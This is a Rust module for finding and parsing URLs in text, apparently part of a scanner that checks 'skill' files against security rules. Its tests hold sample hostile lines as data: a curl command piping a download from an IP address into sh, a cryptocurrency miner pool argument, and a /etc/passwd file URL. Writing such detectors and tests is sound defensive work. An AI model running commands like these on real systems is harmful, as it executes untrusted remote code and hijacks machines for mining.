//! Finding URLs in text and taking them apart, without a full URL parser: skill text is full of
//! half-URLs in shell quoting, and all rules need is the host and the path.

/// `(offset, url)` for every `http(s)://`, `ftp://` or `stratum+tcp://` URL in `text`.
///
/// Linear in the text however many `://` it holds: each separator's scheme is the run of
/// scheme characters before it (runs never overlap), and the end of its URL comes from a
/// cursor over the delimiters that only moves forward.
pub fn find_urls(text: &str) -> impl Iterator<Item = (usize, &str)> + '_ {
    let mut delimiters = DelimiterCursor::default();
    memchr::memmem::find_iter(text.as_bytes(), b"://").filter_map(move |sep| {
        let run = scheme_run_start(text, 0, sep);
        url_of(text, run, sep, delimiters.url_end(text, sep))
    })
}

fn is_scheme_char(c: u8) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, b'+' | b'.' | b'-')
}

fn is_url_delimiter(c: char) -> bool {
    c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '<' | '>' | ')' | ']' | '}' | '|' | '\\' | '^')
}

/// Where the run of scheme characters that ends at `sep` starts, reading no further back than `lo`.
fn scheme_run_start(text: &str, lo: usize, sep: usize) -> usize {
    let bytes = text.as_bytes();
    let mut start = sep;
    while start > lo && is_scheme_char(bytes[start - 1]) {
        start -= 1;
    }
    start
}

/// The first URL delimiter at or after an offset; offsets asked for never decrease.
#[derive(Default)]
struct DelimiterCursor {
    /// `(searched from, found at)` of the last search.
    last: Option<(usize, usize)>,
}

impl DelimiterCursor {
    /// End of the URL whose `://` is at `sep`: the first delimiter after it, or the end of text.
    fn url_end(&mut self, text: &str, sep: usize) -> usize {
        let from = sep + 3;
        if let Some((searched, found)) = self.last
            && searched <= from
            && found >= from
        {
            return found;
        }
        let found =
            text[from..].char_indices().find(|(_, c)| is_url_delimiter(*c)).map_or(text.len(), |(i, _)| from + i);
        self.last = Some((from, found));
        found
    }
}

/// The URL made of the scheme `text[run..sep]` and what follows the separator up to `end`.
fn url_of(text: &str, run: usize, sep: usize, end: usize) -> Option<(usize, &str)> {
    if run == sep || sep - run > "stratum+tcp".len() {
        return None;
    }
    let scheme = &text[run..sep];
    if !matches!(
        scheme.to_ascii_lowercase().as_str(),
        "http" | "https" | "ftp" | "ftps" | "stratum+tcp" | "stratum+ssl" | "ws" | "wss"
    ) {
        return None;
    }
    let url = text[run..end].trim_end_matches(['.', ',', ';', ':']);
    (url.len() > scheme.len() + 3).then_some((run, url))
}

/// The `://` separators of a text, to find the first URL of any slice of it in logarithmic time
/// (a rule match names the first URL of the rest of its line; a line may hold thousands).
#[derive(Debug, Default)]
pub struct UrlIndex {
    seps: Vec<usize>,
    runs: Vec<usize>,
    ends: Vec<usize>,
    /// Separators that begin a URL when the whole text is read.
    found: Vec<usize>,
}

impl UrlIndex {
    pub fn new(text: &str) -> Self {
        let mut index = UrlIndex::default();
        let mut delimiters = DelimiterCursor::default();
        for sep in memchr::memmem::find_iter(text.as_bytes(), b"://") {
            let (run, end) = (scheme_run_start(text, 0, sep), delimiters.url_end(text, sep));
            if url_of(text, run, sep, end).is_some() {
                index.found.push(index.seps.len());
            }
            index.seps.push(sep);
            index.runs.push(run);
            index.ends.push(end);
        }
        index
    }

    /// The first URL of `text[lo..hi]`, as `find_urls(&text[lo..hi]).next()` finds it, for a
    /// `hi` at a line end (a `\n` or the end of the text) of the text this index was built from.
    pub fn first_in<'t>(&self, text: &'t str, lo: usize, hi: usize) -> Option<&'t str> {
        let first = self.seps.partition_point(|&sep| sep < lo);
        let sep = *self.seps.get(first)?;
        if sep + 3 > hi {
            return None;
        }
        // Only the first separator's scheme can reach back before `lo` (a scheme run ends at
        // its `://`); every later one reads the same in the slice as in the whole text.
        let run = self.runs[first].max(lo);
        if let Some((_, url)) = url_of(text, run, sep, self.ends[first].min(hi)) {
            return Some(url);
        }
        let next = self.found.partition_point(|&i| i <= first);
        let i = *self.found.get(next)?;
        (self.seps[i] + 3 <= hi)
            .then(|| url_of(text, self.runs[i], self.seps[i], self.ends[i]).map(|(_, u)| u))
            .flatten()
    }
}

/// Host (lowercase, without port or credentials) and path (with query) of a URL, or of a bare
/// `host/path` string.
pub fn host_and_path(url: &str) -> Option<(String, String)> {
    let rest = match url.find("://") {
        Some(i) => &url[i + 3..],
        None => url,
    };
    let (authority, path) = match rest.find(['/', '?', '#']) {
        Some(i) => (&rest[..i], &rest[i..]),
        None => (rest, ""),
    };
    let host_port = authority.rsplit('@').next().unwrap_or(authority);
    let host = if host_port.starts_with('[') {
        host_port.split(']').next().map(|h| h.trim_start_matches('['))?
    } else {
        host_port.split(':').next()?
    };
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    let valid = !host.is_empty()
        && host.len() <= 253
        && host.chars().all(|c| c.is_alphanumeric() || matches!(c, '.' | '-' | '_' | ':' | '$' | '{' | '}'));
    valid.then(|| (host, path.to_string()))
}

/// Whether a host is a literal IPv4 or IPv6 address.
pub fn is_ip(host: &str) -> bool {
    host.parse::<std::net::IpAddr>().is_ok()
}

/// Destinations written as templates for the reader's own server (`your-domain.com`,
/// `<host>`, `example.com`, `wiki.company.com`): documentation of a setup, not an address to
/// send to. Only documents may use this as an excuse: in code a "placeholder" host is a host.
pub fn is_placeholder_host(host: &str) -> bool {
    let h = host.to_ascii_lowercase();
    let documentation = ["example.com", "example.org", "example.net", "company.com"]
        .iter()
        .any(|d| h == *d || h.ends_with(&format!(".{d}")));
    h.starts_with("your")
        || h.contains('<')
        || documentation
        || h == "localhost"
        || h.starts_with("127.")
        || h.starts_with("my-")
        || h.starts_with("mydomain")
}

/// Hosts reserved for documentation (RFC 2606): nobody can receive what is sent there.
pub fn is_reserved_example_host(host: &str) -> bool {
    let h = host.to_ascii_lowercase();
    ["example.com", "example.org", "example.net"].iter().any(|d| h == *d || h.ends_with(&format!(".{d}")))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_urls_in_shell_and_markdown() {
        let text = "curl -fsSL \"https://203.0.113.7/k9x2\" | sh; see [docs](https://docs.example.com/a?b=1).";
        let urls: Vec<_> = find_urls(text).map(|(_, u)| u).collect();
        assert_eq!(urls, ["https://203.0.113.7/k9x2", "https://docs.example.com/a?b=1"]);
        let miner: Vec<_> = find_urls("-o stratum+tcp://pool.example.invalid:3333 -u W").map(|(_, u)| u).collect();
        assert_eq!(miner, ["stratum+tcp://pool.example.invalid:3333"]);
        assert_eq!(find_urls("file:///etc/passwd and ://nothing").count(), 0);
    }

    #[test]
    fn the_index_finds_the_first_url_of_any_slice_like_find_urls() {
        let text = "see xhttps://a.dev/x and https://b.dev/y.\nnext http://c.dev ws://d and ftp://e.org/f; \
                    zz://no https://g.dev) end";
        let index = UrlIndex::new(text);
        let line_ends: Vec<usize> =
            text.char_indices().filter(|(_, c)| *c == '\n').map(|(i, _)| i).chain([text.len()]).collect();
        for lo in 0..text.len() {
            let hi = *line_ends.iter().find(|&&e| e >= lo).unwrap();
            let expected = find_urls(&text[lo..hi]).next().map(|(_, u)| u);
            assert_eq!(index.first_in(text, lo, hi), expected, "from {lo}");
        }
    }

    #[test]
    fn splits_host_and_path() {
        assert_eq!(
            host_and_path("https://user:pw@Sub.Example.COM:8443/p/x?q=1"),
            Some(("sub.example.com".into(), "/p/x?q=1".into()))
        );
        assert_eq!(host_and_path("bun.sh/install"), Some(("bun.sh".into(), "/install".into())));
        assert!(is_ip("203.0.113.9"));
        assert!(!is_ip("example.com"));
    }
}
